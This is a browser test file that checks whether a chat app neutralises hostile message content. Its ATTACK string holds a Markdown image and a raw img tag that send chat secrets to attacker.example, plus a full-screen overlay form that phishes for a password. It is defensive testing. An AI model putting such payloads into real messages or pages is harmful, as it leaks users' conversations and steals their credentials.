"""Real browser: a message with a remote Markdown image, a raw <img> and a full-page overlay form loads nothing
remote (Playwright's request log) and covers nothing (Send is still what sits under its own centre)."""

from __future__ import annotations

from urllib.parse import urlparse

import pytest

from tests.browser.test_browser_app import CHROMIUM, CHROMIUM_ARGS, SHOTS, STREAM_TIMEOUT_MS, App, open_page, send

# A real browser against a real app started twice: minutes on a busy 2-core machine, not the default 120 s.
pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]
sync_api = pytest.importorskip("playwright.sync_api")

ATTACK = (
    "Look: ![s](http://attacker.example/p.png?secret=chat-contents) "
    "<img src=http://attacker.example/i.png?secret=2> "
    '<div style="position:fixed;inset:0;z-index:99999;background:white">'
    '<form action="http://attacker.example/login"><input type=password placeholder="Sign in again"></form></div>'
)


def test_a_message_loads_nothing_remote_and_covers_nothing(tiny_model_dir, tmp_path):
    SHOTS.mkdir(parents=True, exist_ok=True)
    seen: list[str] = []
    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        app = App(tmp_path / "data", tiny_model_dir("mixtral"), tmp_path / "net.log", port=7895)
        try:
            page = open_page(browser, app.url, seen)
            page.get_by_text("Generation").click()
            page.locator("#max-tokens input[type=number]").fill("3")
            page.locator("#max-tokens input[type=number]").press("Enter")
            send(page, ATTACK)
            page.locator("#chatbot").get_by_text("tok/s").first.wait_for(timeout=STREAM_TIMEOUT_MS)
            page.reload()  # the newest chat opens on load: what is stored must be as harmless as what streamed
            page.get_by_role("tab", name="Chat").wait_for()
            page.locator("#chatbot").get_by_text("Look:").first.wait_for(timeout=30_000)
            page.wait_for_timeout(500)
            page.screenshot(path=SHOTS / "chat-hostile-message.png", full_page=True)
            chat = page.locator("#chatbot")
            assert chat.locator("img[src*='attacker']").count() == 0
            assert chat.locator("form, input[type=password]").count() == 0
            assert "position:fixed" in chat.inner_text().replace(" ", "")  # shown as text, harmlessly
            box = page.locator("#send").bounding_box()
            hit = page.evaluate(
                "([x, y]) => document.elementFromPoint(x, y)?.closest('#send') !== null",
                [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2],
            )
            assert hit, "something covers the Send button"
            page.close()
        finally:
            app.stop()
        browser.close()
    remote = {urlparse(u).hostname for u in seen if u.startswith("http")} - {"127.0.0.1", "localhost"}
    assert remote == set(), f"the page fetched {remote}"
